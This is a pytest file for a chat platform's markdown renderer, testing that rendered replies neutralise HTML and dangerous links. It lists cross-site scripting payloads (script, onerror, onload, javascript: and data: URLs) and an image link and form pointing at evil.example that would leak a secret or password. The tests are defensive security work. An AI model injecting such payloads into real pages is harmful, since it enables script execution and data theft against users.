"""What a model or a person writes is shown, and never has an effect."""

import pytest

from chat_platform.web.markdown_html import to_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=password></form>',
]
LINKS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "<javascript:alert(1)>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_html_in_a_reply_stays_text(text: str):
    html = to_html(text)

    assert text[0:4] not in html
    assert "&lt;" in html


@pytest.mark.parametrize("text", LINKS)
def test_links_that_run_something_are_no_links(text: str):
    assert "href" not in to_html(text)


def test_a_bare_address_becomes_a_link_that_tells_its_site_nothing():
    html = to_html("See https://example.com/a?b=c.")

    assert '<a href="https://example.com/a?b=c" target="_blank" rel="noopener noreferrer' in html


@pytest.mark.parametrize(
    "text",
    ["main.py", "www.example.com", "//evil.example", "javascript:alert(1)", "`https://a.example`"],
)
def test_what_only_looks_like_an_address_stays_text(text: str):
    assert "href" not in to_html(text)


def test_images_are_not_loaded_by_themselves():
    html = to_html("![pixel](https://evil.example/?q=secret)")

    assert "<img" not in html


def test_code_is_shown_as_it_is():
    html = to_html("```html\n<script>alert(1)</script>\n```")

    assert "<script" not in html
